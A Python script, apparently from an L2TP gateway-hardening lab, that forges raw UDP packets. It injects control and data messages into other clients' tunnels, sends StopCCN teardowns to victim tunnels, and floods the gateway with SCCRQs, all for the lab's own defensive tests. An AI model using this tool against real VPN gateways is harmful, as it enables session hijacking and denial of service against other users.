"""A hostile L2TP sender for the lab's hardening tests (stdlib only; run inside a client namespace).

It plays an authenticated client that abuses its own SA: it sends from the NAT address's udp/1701
(like every client behind the NAT) through a raw socket, so it needs no bound port and can run
beside the namespace's Windows-like client, which holds udp/1701.  The gateway sees its packets on
that client's link, so they carry that client's SA mark.

    python -m l2tp_marker.lab.attacker --server 198.51.100.1 data --tunnel-id G --session-id S \\
        --token atk-3 [--count 20] [--interval 0.05]
    python -m l2tp_marker.lab.attacker --server 198.51.100.1 hello --tunnel-id G [--ns N --nr N]
    python -m l2tp_marker.lab.attacker --server 198.51.100.1 stopccn --tunnel-id G --assigned-tunnel-id 1
    python -m l2tp_marker.lab.attacker --server 198.51.100.1 sccrq-flood --first-tid 20000 --count 500

``data`` sends L2TP data packets carrying a PPP LCP Echo-Request whose data is ``--token`` (pick a
token no lab client uses, so the lab's analysis does not attribute the answers to a client);
``hello`` and ``stopccn`` send control messages into another client's tunnel (header tunnel ID =
the gateway's ID of the victim's tunnel, learnt from ``l2tp-marker status``); ``sccrq-flood`` sends
SCCRQs with distinct Assigned Tunnel IDs ``first-tid``, ``first-tid + 1``, ...  Prints one JSON line
``{"sent": N}`` and exits 0.
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import sys
import time

L2TP_PORT = 1701
# Control header: T, L, S set, version 2.  Data header (as Windows sends it): L set, version 2.
CONTROL_FLAGS = 0xC802
DATA_FLAGS = 0x4002
SCCRQ, STOPCCN, HELLO = 1, 4, 6


def avp(attr_type: int, value: bytes, mandatory: bool = True) -> bytes:
    return struct.pack("!HHH", (0x8000 if mandatory else 0) | (6 + len(value)), 0, attr_type) + value


def u16(v: int) -> bytes:
    return struct.pack("!H", v)


def control(tunnel_id: int, msg_type: int, avps: bytes = b"", *, session_id: int = 0, ns: int = 0,
            nr: int = 0) -> bytes:
    body = avp(0, u16(msg_type)) + avps
    return struct.pack("!HHHHHH", CONTROL_FLAGS, 12 + len(body), tunnel_id, session_id, ns, nr) + body


def sccrq(assigned_tid: int, hostname: bytes = b"ATTACKER") -> bytes:
    avps = (avp(2, u16(0x0100)) + avp(3, struct.pack("!I", 1)) + avp(7, hostname)
            + avp(9, u16(assigned_tid)) + avp(10, u16(8)))
    return control(0, SCCRQ, avps)


def stopccn(tunnel_id: int, assigned_tid: int) -> bytes:
    return control(tunnel_id, STOPCCN, avp(9, u16(assigned_tid)) + avp(1, u16(1)), ns=0, nr=0)


def lcp_echo(tunnel_id: int, session_id: int, token: bytes, ident: int = 1) -> bytes:
    lcp = struct.pack("!BBH", 9, ident & 0xFF, 8 + len(token)) + b"\0\0\0\0" + token
    ppp = b"\xff\x03\xc0\x21" + lcp
    return struct.pack("!HHHH", DATA_FLAGS, 8 + len(ppp), tunnel_id, session_id) + ppp


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s & 0xFFFF) or 0xFFFF


class RawSender:
    """UDP datagrams from SRC:sport built by hand and sent through a raw IPv4 socket."""

    def __init__(self, server: str, sport: int = L2TP_PORT, dport: int = L2TP_PORT):
        self.server, self.sport, self.dport = server, sport, dport
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect((server, dport))
            self.src = probe.getsockname()[0]
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        self.sent = 0

    def send(self, payload: bytes) -> None:
        length = 8 + len(payload)
        pseudo = (socket.inet_aton(self.src) + socket.inet_aton(self.server)
                  + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length))
        header = struct.pack("!HHHH", self.sport, self.dport, length, 0)
        csum = checksum(pseudo + header + payload)
        self.sock.sendto(struct.pack("!HHHH", self.sport, self.dport, length, csum) + payload,
                         (self.server, 0))
        self.sent += 1

    def close(self) -> None:
        self.sock.close()


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m l2tp_marker.lab.attacker", description=__doc__.split("\n")[0])
    p.add_argument("--server", required=True, help="the gateway (LNS) address")
    p.add_argument("--sport", type=int, default=L2TP_PORT, help="source port (default 1701)")
    p.add_argument("--count", type=int, default=1, help="packets to send (default 1)")
    p.add_argument("--interval", type=float, default=0.0, help="seconds between packets (default 0)")
    sub = p.add_subparsers(dest="kind", required=True)
    d = sub.add_parser("data", help="LCP Echo-Requests in data packets of another tunnel")
    d.add_argument("--tunnel-id", type=int, required=True)
    d.add_argument("--session-id", type=int, required=True)
    d.add_argument("--token", default="atk")
    h = sub.add_parser("hello", help="HELLO control messages in another tunnel")
    h.add_argument("--tunnel-id", type=int, required=True)
    h.add_argument("--ns", type=int, default=0)
    h.add_argument("--nr", type=int, default=0)
    s = sub.add_parser("stopccn", help="a StopCCN for another tunnel")
    s.add_argument("--tunnel-id", type=int, required=True)
    s.add_argument("--assigned-tunnel-id", type=int, default=1)
    f = sub.add_parser("sccrq-flood", help="SCCRQs with distinct Assigned Tunnel IDs")
    f.add_argument("--first-tid", type=int, default=20000)
    return p


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    sender = RawSender(args.server, args.sport)
    try:
        for i in range(args.count):
            if args.kind == "data":
                pkt = lcp_echo(args.tunnel_id, args.session_id, args.token.encode(), i + 1)
            elif args.kind == "hello":
                pkt = control(args.tunnel_id, HELLO, ns=(args.ns + i) & 0xFFFF, nr=args.nr)
            elif args.kind == "stopccn":
                pkt = stopccn(args.tunnel_id, args.assigned_tunnel_id)
            else:
                pkt = sccrq((args.first_tid + i - 1) % 0xFFFF + 1)
            sender.send(pkt)
            if args.interval and i + 1 < args.count:
                time.sleep(args.interval)
    finally:
        sender.close()
    print(json.dumps({"sent": sender.sent, "src": sender.src}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
